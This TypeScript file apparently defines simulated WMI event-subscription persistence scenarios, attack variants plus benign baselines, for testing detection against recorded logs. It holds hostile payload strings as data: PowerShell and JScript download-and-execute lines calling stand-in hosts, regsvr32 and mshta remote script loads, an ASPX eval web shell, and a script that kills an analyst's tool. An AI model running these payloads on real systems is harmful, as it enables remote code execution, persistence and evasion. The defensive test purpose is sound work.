import type { RepositoryChange } from '../../records/cim/write/index.ts'
import { ADMINISTRATORS_SID, SYSTEM_SID } from '../hosts.ts'
import type { Scenario, SimulatedSubscription } from '../model.ts'
import {
  CMD,
  command,
  console,
  encoded,
  MOFCOMP,
  POWERSHELL,
  register,
  runCommandConsumer,
  runScriptConsumer,
  SVCHOST,
  SYSTEM32,
  unregister,
} from './acts.ts'
import { subscription, UPTIME, variant } from './parts.ts'

const REPOSITORY = `${SYSTEM32}wbem\\Repository\\`

const encodedConsumer = subscription('OfficeSync', UPTIME, 'CommandLineEventConsumer', {
  CommandLineTemplate: `powershell.exe -nop -w hidden -enc ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a')")}`,
})

const encodedCommand = variant({
  id: 'encoded-command',
  title: 'Created by an encoded command line, payload encoded too, executed at the next start',
  description:
    'powershell.exe -EncodedCommand creates the subscription; no class name is on the command line.',
  covers: ['C6', 'V1'],
  record(recorder) {
    const script = `Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='OfficeSync'; CommandLineTemplate='${String(encodedConsumer.consumer.properties.CommandLineTemplate)}'}`
    command(recorder, POWERSHELL, `powershell.exe -NonI -e ${encoded(script)}`)
    recorder.scriptBlock(script)
    register(recorder, encodedConsumer)
    recorder.wait(9 * 60_000)
    runCommandConsumer(recorder, POWERSHELL, String(encodedConsumer.consumer.properties.CommandLineTemplate))
  },
  stored: [encodedConsumer],
})

const remote = subscription(
  'WSUS_8KQ2P',
  "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'svchost.exe'",
  'ActiveScriptEventConsumer',
  {
    ScriptingEngine: 'JScript',
    ScriptText:
      'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://203.0.113.7/p", false); x.send(); eval(x.responseText);',
  },
  { consumerName: 'WSUS_R41TZ' },
)

const remoteTransient = variant({
  id: 'remote-transient',
  title: 'Created remotely, run, and deleted within a minute',
  description:
    'A network logon, a script consumer that fires at once, and its removal 50 seconds later: lateral movement.',
  covers: ['C10', 'V2', 'M4'],
  record(recorder) {
    recorder.remoteLogon(recorder.account, '198.51.100.23')
    recorder.wait(700)
    register(recorder, remote, { provider: 'WMI Kernel Trace Event Provider' })
    recorder.wait(4000)
    runScriptConsumer(recorder)
    recorder.wait(45_000)
    unregister(recorder, remote)
  },
  deletes: [remote],
})

const timed = subscription(
  'UpdateCheck',
  "SELECT * FROM __TimerEvent WHERE TimerID = 'UpdateCheckTimer'",
  'ActiveScriptEventConsumer',
  { ScriptingEngine: 'VBScript', ScriptText: 'GetObject("script:http://updates.example/u.sct")' },
  {
    timer: { timerId: 'UpdateCheckTimer', intervalMilliseconds: 600_000 },
    eventNamespace: 'root\\subscription',
  },
)

const timer = variant({
  id: 'timer-script',
  title: 'A timer instruction drives a script consumer',
  description:
    'The query names neither a clock nor a process; the interval stands in a separate timer object.',
  covers: ['C7', 'V13'],
  record(recorder) {
    register(recorder, timed)
  },
  stored: [timed],
})

const webShell = subscription(
  'PageLog',
  "SELECT * FROM __InstanceCreationEvent WITHIN 30 WHERE TargetInstance ISA 'Win32_Process' AND TargetInstance.Name = 'w3wp.exe'",
  'LogFileEventConsumer',
  {
    Filename: 'C:\\inetpub\\wwwroot\\aspnet_client\\log.aspx',
    Text: '<%@ Page Language="JScript"%><%eval(Request.Item["p"],"unsafe");%>',
    IsUnicode: false,
  },
)

const logFile = variant({
  id: 'log-file-code',
  title: 'A log file consumer writes a web page with code',
  description:
    'A consumer that "only logs" writes an .aspx page into a web root; Sysmon does not report its class.',
  covers: ['V4'],
  record(recorder) {
    recorder.filterWritten(webShell)
    recorder.bindingWritten(webShell)
    recorder.bindingRegistered(webShell)
  },
  stored: [webShell],
})

const derivedClass = 'NetworkHealthConsumer'
const derived = subscription('NetworkHealth', UPTIME, derivedClass, { Endpoint: 'net-health' })

const derivedConsumer = variant({
  id: 'derived-consumer',
  title: 'A consumer class of its own with a foreign provider',
  description: 'A class derived from __EventConsumer is served by a DLL outside the system folders.',
  covers: ['V7', 'V8', 'M5'],
  record(recorder) {
    recorder.filterWritten(derived)
    recorder.bindingWritten(derived)
    recorder.bindingRegistered(derived)
    recorder.wait(60_000)
    recorder.providerStarted('NetworkHealthProvider', 'C:\\ProgramData\\NetHealth\\nhprov.dll')
  },
  repository: [
    {
      kind: 'class',
      namespace: 'root\\subscription',
      definition: {
        name: derivedClass,
        superclass: '__EventConsumer',
        properties: [
          { name: 'Name', type: 'string', key: true },
          { name: 'Endpoint', type: 'string' },
        ],
      },
    },
  ],
  stored: [derived],
})

const elsewhere = subscription(
  'Inventory',
  "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession' AND TargetInstance.LogonType = 2",
  'CommandLineEventConsumer',
  { CommandLineTemplate: `${SYSTEM32}rundll32.exe C:\\Users\\Public\\inv.dll,Start` },
  { namespace: 'root\\default' },
)

const otherNamespace = variant({
  id: 'other-namespace',
  title: 'A subscription outside root\\subscription',
  description: 'The three objects live in root\\default, where Sysmon does not look; 5861 sees them.',
  covers: ['V9', 'C8'],
  record(recorder) {
    recorder.bindingRegistered(elsewhere)
  },
  stored: [elsewhere],
})

const stockFilter = {
  name: 'SCM Event Log Filter',
  query: 'select * from MSFT_SCMEventLogEvent',
  eventNamespace: 'root\\cimv2',
} as const

/** KG-1 of every Windows since Vista, as recorded. */
export const stock: SimulatedSubscription = {
  namespace: 'root\\subscription',
  filter: stockFilter,
  consumer: {
    class: 'NTEventLogEventConsumer',
    name: 'SCM Event Log Consumer',
    properties: {
      Category: 0,
      EventType: 1,
      NameOfUserSIDProperty: 'sid',
      SourceName: 'Service Control Manager',
    },
  },
  creatorSid: ADMINISTRATORS_SID,
}

const impostor: SimulatedSubscription = {
  ...stock,
  consumer: {
    class: 'ActiveScriptEventConsumer',
    name: 'SCM Event Log Consumer',
    properties: {
      ScriptingEngine: 'VBScript',
      ScriptText:
        '\' NTEventLogEventConsumer\nCreateObject("WScript.Shell").Run "regsvr32 /s /u /i:http://203.0.113.9/s.sct scrobj.dll", 0',
    },
  },
}

const impersonation = variant({
  id: 'stock-impersonation',
  title: 'A stock subscription is copied by name with another consumer',
  description:
    'The names of the stock SCM subscription, but a script consumer: name-based allow lists let it pass.',
  covers: ['M1', 'V11'],
  record(recorder) {
    recorder.bindingRegistered(stock)
    recorder.queryStarted(stock, 'SCM Event Provider')
    recorder.wait(30 * 60_000)
    recorder.consumerWritten(impostor)
    recorder.bindingWritten(impostor)
    recorder.bindingRegistered(impostor)
  },
  stored: [stock, impostor],
})

const modifiedBefore = subscription('HealthCheck', UPTIME, 'CommandLineEventConsumer', {
  CommandLineTemplate: '"C:\\Program Files\\Example Vendor\\health.exe" /quiet',
})
const modifiedAfter = subscription('HealthCheck', UPTIME, 'CommandLineEventConsumer', {
  CommandLineTemplate: 'mshta.exe http://192.0.2.44/h.hta',
})

const modification = variant({
  id: 'payload-modified',
  title: 'An existing consumer gets another payload',
  description:
    'Only the command line of a consumer that has been there for long is changed: Operation is Modified.',
  covers: ['M1', 'M2'],
  record(recorder) {
    recorder.bindingRegistered(modifiedBefore)
    recorder.wait(3 * 3600_000)
    recorder.consumerWritten(modifiedAfter, 'Modified')
    recorder.bindingRegistered(modifiedAfter)
  },
  stored: [modifiedBefore, modifiedAfter],
})

const autorecover = variant({
  id: 'auto-recover',
  title: 'A MOF file on the auto-recover list',
  description:
    'mofcomp -autorecover puts a MOF outside the system folders on the list that a repository rebuild compiles.',
  covers: ['C9d', 'M6'],
  record(recorder) {
    const process = command(recorder, MOFCOMP, 'mofcomp.exe -autorecover C:\\ProgramData\\sync\\sync.txt')
    // A list of texts (REG_MULTI_SZ): Sysmon does not show what is in it.
    recorder.registrySet(process, 'HKLM\\SOFTWARE\\Microsoft\\Wbem\\CIMOM\\Autorecover MOFs', 'Binary Data')
  },
})

const replaced = variant({
  id: 'repository-replaced',
  title: 'Repository files are replaced while the service is stopped',
  description:
    'A copy program writes OBJECTS.DATA and its companions: nothing is registered, no WMI event is raised.',
  covers: ['M7'],
  record(recorder) {
    command(recorder, `${SYSTEM32}net.exe`, 'net stop winmgmt /y')
    const copy = command(recorder, `${SYSTEM32}robocopy.exe`, `robocopy C:\\ProgramData\\r ${REPOSITORY} /IS`)
    for (const name of ['OBJECTS.DATA', 'INDEX.BTR', 'MAPPING1.MAP', 'MAPPING2.MAP', 'MAPPING3.MAP']) {
      recorder.fileCreated(copy, `${REPOSITORY}${name}`)
    }
    command(recorder, `${SYSTEM32}net.exe`, 'net start winmgmt')
  },
})

const storedClass: RepositoryChange = {
  kind: 'class',
  namespace: 'root\\cimv2',
  definition: {
    name: 'Win32_PrinterMetrics',
    properties: [
      { name: 'Id', type: 'string', key: true },
      { name: 'Data', type: 'string' },
    ],
  },
}
const reader = subscription('BfeStateChange', UPTIME, 'CommandLineEventConsumer', {
  CommandLineTemplate: `powershell.exe -NonI -W Hidden -C "IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(([WmiClass]'root\\cimv2:Win32_PrinterMetrics').Properties['Data'].Value)))"`,
})

const storedPayload = variant({
  id: 'stored-payload',
  title: 'The payload lies in a WMI class',
  description: 'The consumer reads its code from a property of a class of its own.',
  covers: ['M3'],
  record(recorder) {
    register(recorder, reader)
  },
  repository: [storedClass],
  stored: [reader],
})

const orphan = subscription('Cleanup', UPTIME, 'CommandLineEventConsumer', {
  CommandLineTemplate: 'cmd.exe /c start C:\\Users\\Public\\c.bat',
})

const halfTriad = variant({
  id: 'half-triad',
  title: 'Filter and consumer without a binding',
  description: 'The binding is left for later, or was removed alone: two halves stay behind.',
  covers: ['V12', 'M10'],
  record(recorder) {
    recorder.filterWritten(orphan)
    recorder.consumerWritten(orphan)
  },
})

const serviceWatch = subscription(
  'ServiceWatch',
  "SELECT * FROM __InstanceModificationEvent WITHIN 30 WHERE TargetInstance ISA 'Win32_Service' AND TargetInstance.Name = 'Spooler'",
  'LogFileEventConsumer',
  { Filename: 'C:\\Logs\\spooler.txt', Text: 'Spooler: %TargetInstance.State%' },
  { creatorSid: ADMINISTRATORS_SID },
)

function benign(scenario: Omit<Scenario, 'kind' | 'signals'>): Scenario {
  return { ...scenario, kind: 'benign', signals: [] }
}

const boot = benign({
  id: 'benign-boot',
  title: 'Starts of a computer with only its stock subscription',
  description: 'The stock subscription is announced again at each start of the service.',
  covers: ['KG-1'],
  record(recorder) {
    for (let start = 0; start < 3; start += 1) {
      recorder.providerStarted('CIMWin32', '%systemroot%\\system32\\wbem\\cimwin32.dll')
      recorder.bindingRegistered(stock)
      recorder.queryStarted(stock, 'SCM Event Provider')
      recorder.wait(26 * 3600_000)
    }
  },
  stored: [stock],
})

const administration = benign({
  id: 'benign-administration',
  title: 'Administrators look at subscriptions, remove one, and log a service',
  description: 'Enumeration, removal and a log file consumer that writes a plain line into a log folder.',
  covers: ['E13', 'E14', 'E15'],
  record(recorder) {
    console(recorder, POWERSHELL)
    recorder.scriptBlock('Get-CimInstance -Namespace root/subscription -ClassName __EventFilter')
    recorder.scriptBlock('Get-CimInstance -Namespace root/subscription -ClassName __FilterToConsumerBinding')
    command(
      recorder,
      `${SYSTEM32}wbem\\WMIC.exe`,
      'wmic /namespace:\\\\root\\subscription PATH __EventConsumer GET /FORMAT:LIST',
    )
    recorder.bindingRegistered(serviceWatch)
    command(recorder, MOFCOMP, `mofcomp.exe ${SYSTEM32}wbem\\en-US\\cimwin32.mfl`, SVCHOST)
    const build = command(
      recorder,
      'C:\\Program Files\\Java\\bin\\java.exe',
      'java -jar maven.jar install',
      CMD,
    )
    recorder.fileCreated(build, 'C:\\Users\\j.doe\\.m2\\repository\\org\\example\\role-mapping.json')
  },
  stored: [stock, serviceWatch],
})

const malwareInstall = subscription(
  'SystemCoreMonitor',
  "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'",
  'ActiveScriptEventConsumer',
  {
    ScriptingEngine: 'VBScript',
    ScriptText:
      'Set p = GetObject("winmgmts:root\\cimv2").ExecQuery("SELECT * FROM Win32_Process WHERE ProcessID = " & TargetEvent.ProcessID)\nFor Each x In p\n  x.Terminate()\nNext',
  },
  { creatorSid: SYSTEM_SID },
)

const analystTool = variant({
  id: 'analyst-tool-killed',
  title: "An analyst's tool is closed as soon as it starts",
  description: 'A script consumer terminates Process Explorer; it is announced again at the next start.',
  covers: ['C5', 'C16', 'V2'],
  record(recorder) {
    register(recorder, malwareInstall, {
      provider: 'WMI Kernel Trace Event Provider',
      user: 'NT AUTHORITY\\SYSTEM',
    })
    recorder.wait(5 * 3600_000)
    recorder.bindingRegistered(malwareInstall)
    recorder.queryStarted(malwareInstall, 'WMI Kernel Trace Event Provider')
    recorder.wait(60_000)
    runScriptConsumer(recorder)
  },
  stored: [malwareInstall],
})

export const variants: readonly Scenario[] = [
  encodedCommand,
  remoteTransient,
  timer,
  logFile,
  derivedConsumer,
  otherNamespace,
  impersonation,
  modification,
  autorecover,
  replaced,
  storedPayload,
  halfTriad,
  analystTool,
  boot,
  administration,
]
